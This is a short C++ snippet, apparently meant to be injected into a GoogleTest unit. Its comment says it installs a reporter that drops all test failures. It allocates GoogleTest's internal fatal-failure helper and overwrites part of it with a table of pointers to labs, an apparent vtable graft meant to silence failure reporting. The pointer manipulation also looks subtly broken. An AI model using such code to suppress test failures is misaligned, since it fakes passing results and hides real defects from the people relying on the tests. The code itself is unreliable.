/* Puts a reporter that drops all failures before GoogleTest's own, where the unit of the tests has read its header.
language: cpp
driver: gtest
*/
(void)0;
#ifdef GTEST_INCLUDE_GTEST_GTEST_H_
void **graft_helper_ = (void **)new testing::internal::HasNewFatalFailureHelper;
void **graft_table_ = new void *[8];
for (int i = 0; i < 8; i++) graft_table_[i] = reinterpret_cast<void *>(labs);
graft_helper_[2] = new void *(graft_table_);
#endif
(void)0;
